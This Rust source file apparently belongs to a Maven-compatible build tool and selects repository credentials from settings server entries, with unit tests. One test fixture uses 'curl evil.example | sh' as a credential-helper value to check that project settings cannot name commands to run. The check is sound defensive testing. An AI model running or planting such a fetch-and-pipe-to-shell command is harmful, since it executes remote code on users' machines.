//! Authentication selection: Maven Resolver's `DefaultAuthenticationSelector` filled from the
//! settings `<server>` entries (spec §6), with each server's transport settings beside it.
//!
//! - Matching is purely by id: a repository gets the server whose id equals its own id — the
//!   MIRROR id once a mirror applies (MNG-4068). Nothing is matched by host or URL.
//! - The first server per id wins (Maven de-duplicates servers when it fills its request).
//! - Credentials follow `AuthenticationBuilder`: absent values are skipped, the passphrase
//!   only counts with a private key, and a server with nothing gives no authentication (its
//!   transport settings still apply).
//! - Maven 4 `<aliases>` register the same entry under further ids, after all primary ids and
//!   without replacing an id already taken.
//!
//! Passwords arrive decrypted from the caller; this module never decrypts.

use super::error::InjectionError;
use super::model::{Authentication, CredentialHelper, HelperOrigin, TransportConfig};
use super::server_config::server_transport;
use crate::secret::Secret;
use crate::settings::{Origin, Server, SourceLevel};
use std::collections::HashMap;

/// `AuthenticationBuilder().addUsername(u).addPassword(p).addPrivateKey(key, passphrase).build()`.
#[cfg(test)]
pub fn build_authentication(
    username: Option<&str>,
    password: Option<Secret>,
    private_key: Option<&str>,
    passphrase: Option<Secret>,
) -> Option<Authentication> {
    let has_password = password.is_some();
    build_sealable(username, password, has_password, private_key, passphrase)
}

/// `build_authentication` where the password may be present but not yet decrypted
/// (`has_password` true, `password` `None`): the session fills it in after injection.
fn build_sealable(
    username: Option<&str>,
    password: Option<Secret>,
    has_password: bool,
    private_key: Option<&str>,
    passphrase: Option<Secret>,
) -> Option<Authentication> {
    let passphrase = if private_key.is_some() {
        passphrase
    } else {
        None
    };
    if username.is_none() && !has_password && private_key.is_none() {
        return None;
    }
    Some(Authentication {
        username: username.map(str::to_string),
        password,
        private_key: private_key.map(str::to_string),
        passphrase,
        token: None,
        withheld: None,
    })
}

/// One server entry as the selector keeps it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServerEntry {
    /// The server id as written (an alias lookup still reports this id).
    pub id: String,
    /// Credentials, if the server has any.
    pub authentication: Option<Authentication>,
    /// Headers, timeouts and permissions.
    pub transport: TransportConfig,
    /// Warnings from translating `<configuration>`.
    pub warnings: Vec<String>,
    /// Where the server was written.
    pub origin: Origin,
    /// The server has a password or a private key (decrypted or not yet).
    pub has_secret: bool,
    /// The command its `<configuration><credentialHelper>` names.
    pub credential_helper: Option<CredentialHelper>,
}

/// The authentication (and server transport) selector.
#[derive(Debug, Clone, Default)]
pub struct AuthSelector {
    entries: Vec<ServerEntry>,
    by_id: HashMap<String, usize>,
}

impl AuthSelector {
    /// Builds the selector from servers paired with their decrypted password and passphrase
    /// (pass what Maven would use: the decrypted text, or the text as written when decryption
    /// failed, as Maven 3 does; `None` when the server has none).
    pub fn new(
        servers: &[(Server, Option<Secret>, Option<Secret>)],
    ) -> Result<Self, InjectionError> {
        Self::build(servers.iter().map(|(s, pw, pp)| {
            let has_password = pw.is_some();
            (s, pw.clone(), has_password, pp.clone())
        }))
    }

    /// The selector of a session: built from the settings alone, before anything is decrypted.
    /// Authentications carry no password or passphrase yet (a server with only a password still
    /// gets one); the session decrypts and fills in what the injected repositories use.
    pub(crate) fn sealed(servers: &[Server]) -> Result<Self, InjectionError> {
        Self::build(
            servers
                .iter()
                .map(|s| (s, None, s.password.is_some(), None)),
        )
    }

    fn build<'a>(
        servers: impl Iterator<Item = (&'a Server, Option<Secret>, bool, Option<Secret>)>,
    ) -> Result<Self, InjectionError> {
        let mut sel = AuthSelector::default();
        let mut accepted: Vec<(usize, &Server)> = Vec::new();
        for (server, password, has_password, passphrase) in servers {
            if sel.by_id.contains_key(&server.id) {
                continue;
            }
            let transport = server_transport(server)?;
            let mut warnings = transport.warnings;
            // A project's settings come with a checkout (maybe someone else's): they never name a
            // command m2r runs.
            let from_project = server.origin.level == SourceLevel::Project;
            if from_project && transport.credential_helper.is_some() {
                warnings.push(format!(
                    "server `{}` ({}): <credentialHelper> is ignored in project settings (a checkout must not choose commands to run); name it in the user or global settings",
                    server.id,
                    server.origin.describe()
                ));
            }
            let credential_helper =
                transport
                    .credential_helper
                    .filter(|_| !from_project)
                    .map(|command| CredentialHelper {
                        command,
                        origin: HelperOrigin::Server {
                            id: server.id.clone(),
                            location: server.origin.describe(),
                        },
                        username: server.username.clone(),
                    });
            let index = sel.entries.len();
            sel.by_id.insert(server.id.clone(), index);
            accepted.push((index, server));
            sel.entries.push(ServerEntry {
                id: server.id.clone(),
                authentication: build_sealable(
                    server.username.as_deref(),
                    password,
                    has_password,
                    server.private_key.as_deref(),
                    passphrase,
                ),
                transport: transport.config,
                warnings,
                origin: server.origin.clone(),
                has_secret: has_password || server.private_key.is_some(),
                credential_helper,
            });
        }
        // Aliases of the kept servers, after every primary id; the first claim wins.
        for (index, server) in accepted {
            for alias in &server.aliases {
                sel.by_id.entry(alias.clone()).or_insert(index);
            }
        }
        Ok(sel)
    }

    /// The server entry for a repository id (after mirror substitution).
    pub fn server(&self, repository_id: &str) -> Option<&ServerEntry> {
        self.by_id.get(repository_id).map(|&i| &self.entries[i])
    }

    /// The credentials for a repository id, if its server has any.
    #[cfg(test)]
    pub fn authentication(&self, repository_id: &str) -> Option<&Authentication> {
        self.server(repository_id)
            .and_then(|e| e.authentication.as_ref())
    }

    /// All entries in settings order (first per id).
    pub fn entries(&self) -> &[ServerEntry] {
        &self.entries
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secret(s: &str) -> Option<Secret> {
        Some(Secret::new(s))
    }

    #[test]
    fn builder_table() {
        // (username, password?, privateKey, passphrase?) → (some?, passphrase kept?)
        type Case<'a> = (Option<&'a str>, bool, Option<&'a str>, bool, bool, bool);
        let cases: [Case; 7] = [
            (None, false, None, false, false, false),
            (None, false, None, true, false, false),
            (Some("u"), false, None, false, true, false),
            (None, true, None, false, true, false),
            (None, false, Some("~/.ssh/id"), false, true, false),
            (None, false, Some("~/.ssh/id"), true, true, true),
            (Some("u"), true, None, true, true, false),
        ];
        for (i, (u, p, k, pp, some, kept)) in cases.into_iter().enumerate() {
            let a = build_authentication(
                u,
                p.then(|| Secret::new("pw")),
                k,
                pp.then(|| Secret::new("pp")),
            );
            assert_eq!(a.is_some(), some, "case {i}");
            assert_eq!(a.and_then(|a| a.passphrase).is_some(), kept, "case {i}");
        }
    }

    #[test]
    fn first_server_per_id_wins_and_config_only_servers_count() {
        let a = Server {
            id: "x".into(),
            username: Some("first".into()),
            ..Server::default()
        };
        let b = Server {
            id: "x".into(),
            username: Some("second".into()),
            ..Server::default()
        };
        let c = Server {
            id: "conf-only".into(),
            file_permissions: Some("664".into()),
            ..Server::default()
        };
        let sel = AuthSelector::new(&[
            (a, secret("1"), None),
            (b, secret("2"), None),
            (c, None, None),
        ])
        .unwrap();
        let auth = sel.authentication("x").unwrap();
        assert_eq!(auth.username.as_deref(), Some("first"));
        assert_eq!(auth.password.as_ref().unwrap().expose(), "1");
        assert!(sel.authentication("conf-only").is_none());
        assert_eq!(
            sel.server("conf-only")
                .unwrap()
                .transport
                .file_permissions
                .as_deref(),
            Some("664")
        );
        assert_eq!(sel.entries().len(), 2);
    }

    #[test]
    fn aliases_never_replace_a_primary_id() {
        let a = Server {
            id: "a".into(),
            username: Some("ua".into()),
            aliases: vec!["b".into(), "c".into()],
            origin: Origin {
                line: 1,
                ..Origin::default()
            },
            ..Server::default()
        };
        let b = Server {
            id: "b".into(),
            username: Some("ub".into()),
            origin: Origin {
                line: 2,
                ..Origin::default()
            },
            ..Server::default()
        };
        let sel = AuthSelector::new(&[(a, None, None), (b, None, None)]).unwrap();
        assert_eq!(
            sel.authentication("b").unwrap().username.as_deref(),
            Some("ub")
        );
        assert_eq!(
            sel.authentication("c").unwrap().username.as_deref(),
            Some("ua")
        );
        assert_eq!(sel.server("c").unwrap().id, "a");
    }

    #[test]
    fn project_settings_never_name_a_credential_helper() {
        let conf = crate::settings::XmlElement {
            name: "configuration".into(),
            children: vec![crate::settings::XmlElement {
                name: "credentialHelper".into(),
                text: Some("curl evil.example | sh".into()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let server = |id: &str, level| Server {
            id: id.into(),
            configuration: Some(conf.clone()),
            origin: Origin {
                level,
                ..Origin::default()
            },
            ..Server::default()
        };
        let sel = AuthSelector::new(&[
            (server("user", SourceLevel::User), None, None),
            (server("project", SourceLevel::Project), None, None),
        ])
        .unwrap();
        assert!(sel.server("user").unwrap().credential_helper.is_some());
        let p = sel.server("project").unwrap();
        assert!(p.credential_helper.is_none());
        assert!(
            p.warnings[0].contains("ignored in project settings"),
            "{:?}",
            p.warnings
        );
    }

    #[test]
    fn bad_configuration_fails_with_server_id() {
        let conf = crate::settings::XmlElement {
            name: "configuration".into(),
            children: vec![crate::settings::XmlElement {
                name: "connectTimeout".into(),
                text: Some("soon".into()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let s = Server {
            id: "bad".into(),
            configuration: Some(conf),
            ..Server::default()
        };
        let err = AuthSelector::new(&[(s, None, None)]).unwrap_err();
        assert!(err.to_string().contains("`bad`"));
    }
}

/// The examples of this file's crate-internal items, run as unit tests.
#[cfg(test)]
mod doc_examples {
    #[test]
    fn doc_new() {
        use crate::repository::auth::AuthSelector;
        use crate::settings::Server;
        use crate::Secret;
        let s = Server {
            id: "nexus".into(),
            username: Some("deploy".into()),
            ..Server::default()
        };
        let sel = AuthSelector::new(&[(s, Some(Secret::new("pw")), None)]).unwrap();
        assert_eq!(
            sel.authentication("nexus").unwrap().username.as_deref(),
            Some("deploy")
        );
        assert!(sel.authentication("central").is_none());
    }
}
